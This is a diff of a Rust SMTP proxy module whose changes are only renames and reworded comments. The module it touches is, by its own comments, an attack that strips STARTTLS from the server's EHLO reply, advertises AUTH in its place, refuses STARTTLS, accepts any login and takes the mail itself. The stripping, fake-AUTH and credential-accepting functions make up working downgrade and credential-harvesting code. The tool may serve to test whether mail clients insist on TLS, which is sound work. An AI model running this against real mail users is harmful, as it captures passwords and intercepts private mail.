@@ -1,13 +1,13 @@
-//! The trick that hides STARTTLS and takes everything itself.
+//! The attack that hides STARTTLS and accepts the mail itself.
 
 use std::io;
 
-use super::House;
+use super::ProxyState;
 use super::relay::{exchange, next_line, read_reply, verb, write_line, write_reply};
 use crate::wire::Channel;
 
-pub(super) fn serve(house: &House, mut client: Channel) -> io::Result<()> {
-    let mut upstream = Channel::connect(house.config.upstream_starttls)?;
+pub(super) fn serve(state: &ProxyState, mut client: Channel) -> io::Result<()> {
+    let mut upstream = Channel::connect(state.config.upstream_starttls)?;
     let greeting = read_reply(&mut upstream)?;
     write_reply(&mut client, &greeting)?;
     while let Some(line) = next_line(&mut client)? {
@@ -18,7 +18,7 @@ pub(super) fn serve(house: &House, mut client: Channel) -> io::Result<()> {
                 write_reply(&mut client, &without_starttls(&reply))?;
             }
             "STARTTLS" => client.write(b"502 5.5.1 Not implemented\r\n")?,
-            "AUTH" => take_login(&mut client, &line)?,
+            "AUTH" => accept_login(&mut client, &line)?,
             "MAIL" | "RCPT" | "RSET" => client.write(b"250 2.0.0 Ok\r\n")?,
             "DATA" => {
                 client.write(b"354 Go on\r\n")?;
@@ -36,7 +36,7 @@ pub(super) fn serve(house: &House, mut client: Channel) -> io::Result<()> {
     Ok(())
 }
 
-/// The same reply with a login in the place of STARTTLS, which tempts the careless.
+/// Replaces STARTTLS in an EHLO reply by AUTH, to which a careless client sends its password.
 fn without_starttls(reply: &[Vec<u8>]) -> Vec<Vec<u8>> {
     if !reply.first().is_some_and(|line| line.starts_with(b"250")) {
         return reply.to_vec();
@@ -54,8 +54,8 @@ fn without_starttls(reply: &[Vec<u8>]) -> Vec<Vec<u8>> {
     kept.iter().enumerate().map(line).collect()
 }
 
-/// Asks for whatever the mechanism still owes, and is content with it.
-fn take_login(client: &mut Channel, line: &[u8]) -> io::Result<()> {
+/// Requests the remaining responses of the mechanism, and accepts any.
+fn accept_login(client: &mut Channel, line: &[u8]) -> io::Result<()> {
     let text = String::from_utf8_lossy(line).to_ascii_uppercase();
     let words = text.split_ascii_whitespace().collect::<Vec<_>>();
     let login = words.get(1) == Some(&"LOGIN");
